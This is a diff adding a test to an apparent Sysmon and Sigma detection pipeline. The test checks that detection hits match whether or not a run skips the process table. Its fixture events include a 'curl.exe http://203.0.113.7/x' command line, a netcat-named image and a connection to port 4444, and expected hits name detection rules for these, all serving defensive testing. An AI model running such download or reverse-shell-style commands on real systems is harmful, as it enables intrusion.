@@ -743,6 +743,34 @@ def test_the_history_is_read_for_connections_whose_wait_ended_only_when_a_rule_r
     assert len(scans) == rekey_scans  # the batch's events, and (with a rule that waits) the history's
 
 
+def test_a_run_that_leaves_out_the_process_table_gives_the_hits_of_a_run_that_does_not(tmp_path: Path) -> None:
+    """A run of part of the assets reads no event the process table has not read yet: the hits (with their process
+    context) are a whole run's once a later run completes the batch (a probe's finding: a connection's hit carried
+    no process although its create had arrived)."""
+    rules = write_rules(tmp_path / "rules", LATE_CREATE_RULES)
+    events = [
+        process_create("{A}", "curl.exe http://203.0.113.7/x", record=1, event_data={"Image": NC}),
+        network_connect("{A}", record=2, event_data={"Image": NC, "DestinationPort": "4444"}),
+    ]
+    partial = Lake(tmp_path / "partial", sigma_rules=rules)
+    partial.batch(T0)  # the tables exist
+    partial.land(events)
+    for name in partial.pipeline.project.primary_models():
+        if name not in ("sysmon_process_create", "sysmon_process_create_table"):
+            partial.pipeline.run_model(name, "without the process table", T0 + timedelta(minutes=1))
+    partial.batch(T0 + timedelta(minutes=2))
+    whole = Lake(tmp_path / "whole", sigma_rules=rules)
+    whole.land(events)
+    whole.batch(T0)
+    hits = "SELECT rule_title, _record_number, process_command_line FROM sigma_detections ORDER BY ALL"
+    assert partial.rows(hits) == whole.rows(hits)
+    assert whole.rows(hits) == [
+        ("curl connects", 2, "curl.exe http://203.0.113.7/x"),
+        ("not an allowed tool", 2, "curl.exe http://203.0.113.7/x"),
+        ("port", 2, "curl.exe http://203.0.113.7/x"),
+    ]
+
+
 def test_in_ksql_join_mode_a_rule_reading_the_process_runs_in_the_connections_batch(tmp_path: Path) -> None:
     rules = write_rules(tmp_path / "rules", LATE_CREATE_RULES)
     lake = Lake(tmp_path, sigma_rules=rules, join_mode="ksql")
